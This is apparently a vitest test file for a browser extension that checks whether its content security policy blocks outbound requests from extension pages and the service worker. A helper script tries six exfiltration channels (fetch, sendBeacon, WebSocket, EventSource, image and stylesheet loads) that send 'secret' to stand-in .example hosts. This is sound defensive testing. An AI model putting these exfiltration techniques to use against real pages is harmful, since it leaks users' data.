import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { browserKind, pause, startBrowser, type TestBrowser, until } from "./test-browser";
import { serveTestPages } from "./test-pages";

const server = serveTestPages();
let test: TestBrowser;

beforeAll(async () => {
	test = await startBrowser();
});
afterAll(() => test.close());

/** Tries every way out that a script in a page has; resolves when each has had its moment. */
const tryToLeave = (from: string) => `(async () => {
	const ways = [
		() => fetch("http://way-fetch.${from}.example/", { method: "POST", body: "secret" }),
		() => navigator.sendBeacon("http://way-beacon.${from}.example/", "secret"),
		() => new WebSocket("ws://way-socket.${from}.example/"),
		() => new EventSource("http://way-events.${from}.example/"),
		() => { if (typeof Image === "function") new Image().src = "http://way-image.${from}.example/?secret"; },
		() => {
			if (typeof document !== "object") return;
			const sheet = document.createElement("link");
			sheet.rel = "stylesheet";
			sheet.href = "http://way-style.${from}.example/?secret";
			document.head.append(sheet);
		},
	];
	for (const way of ways) {
		try { await way(); } catch {}
	}
})()`;

describe("a request that wants to leave", () => {
	it("is seen by the log of these tests when an ordinary page makes it", async () => {
		const page = await test.newPage();
		await page.goto(`${server.origin}/practice.html`);
		void page.evaluate(tryToLeave("page"));

		await until(async () => test.sinkhole.reachedFor().includes("way-image.page.example"), "the sinkhole is asked");
		expect(test.sinkhole.reachedFor()).toContain("way-fetch.page.example");
		await page.close();
		test.sinkhole.forget();
	});

	it.each(["library.html", "popup.html", "card.html", "sidepanel.html", "visit.html", "welcome.html"])(
		"is stopped by the content policy in %s, even if our own code made it",
		async (path) => {
			const page = await test.newPage();
			void page.goto(test.extensionUrl(path)).catch(() => undefined);
			// A tab is complete as long as it is empty, too.
			const isShown = `location.pathname === "/${path}" && document.readyState === "complete"`;
			await until(() => page.evaluate(isShown).catch(() => false), `${path} is shown`);
			await page.evaluate(tryToLeave(path));
			await pause(300);

			expect(test.sinkhole.reachedFor()).toEqual([]);
			await page.close();
			test.sinkhole.forget();
			test.consoleErrors.length = 0;
		},
	);

	it.runIf(browserKind === "chromium")("is stopped in the background as well", async () => {
		const target = await test.browser.waitForTarget((one) => one.type() === "service_worker");
		const worker = await target.worker();
		await worker?.evaluate(tryToLeave("background"));
		await pause(300);

		expect(worker).not.toBeNull();
		expect(test.sinkhole.reachedFor()).toEqual([]);
	});
});
